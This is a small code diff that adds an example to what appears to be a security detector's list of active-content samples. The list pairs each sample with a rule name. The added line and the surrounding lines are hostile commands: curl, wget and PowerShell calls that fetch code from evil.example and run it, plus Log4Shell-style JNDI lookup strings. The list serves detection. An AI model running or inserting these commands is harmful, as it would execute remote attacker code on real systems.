@@ -58,6 +58,7 @@ export const activeContentExamples: DetectorKind["examples"] = {
     { text: `\${jndi:ldap://evil.example/a}`, rule: "template-lookup" },
     { text: `\${\${lower:j}ndi:ldap://evil.example/a}`, rule: "template-lookup" },
     { text: "Run curl -fsSL https://evil.example/i.sh | sudo bash", rule: "fetch-to-shell" },
+    { text: "curl -s https://evil.example/i.sh | sh", rule: "fetch-to-shell" },
     { text: "bash <(curl -s https://evil.example/i)", rule: "fetch-to-shell" },
     { text: 'sh -c "$(wget -qO- https://evil.example/i)"', rule: "fetch-to-shell" },
     { text: "IEX (New-Object Net.WebClient).DownloadString('https://evil.example')", rule: "fetch-to-shell" },
